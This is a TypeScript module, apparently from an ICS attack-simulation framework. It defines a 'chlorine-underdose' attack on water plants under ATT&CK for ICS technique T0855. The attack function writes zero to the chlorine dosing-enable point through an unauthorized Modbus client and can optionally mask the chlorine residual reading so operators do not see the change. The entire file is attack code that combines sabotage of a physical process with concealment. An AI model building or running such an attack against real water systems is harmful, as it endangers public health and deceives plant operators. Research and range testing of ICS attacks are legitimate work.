// T0855 Unauthorized Command Message: a foreign Modbus client stops the dosing of chlorine, while the report of the residual
// is kept.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { Cover, CoverSeed } from './cover.ts'
import { coveredAim } from './covered-write.ts'
import { InsistSeconds } from './insist.ts'

const Parameters = z.strictObject({ cover: Cover, seed: CoverSeed, insistSeconds: InsistSeconds })

export const chlorineUnderdose = {
  name: 'chlorine-underdose',
  title: { zh: '停止加氯', en: 'Chlorine underdose' },
  technique: 'T0855',
  plants: ['water'],
  parameters: Parameters,
  aim: (foothold, { cover, seed, insistSeconds }) =>
    coveredAim(foothold, { write: { 'dosing.enable': 0 }, cover: cover ? ['chlorine.residual'] : [], seed, insistSeconds })
} satisfies Attack<typeof Parameters>
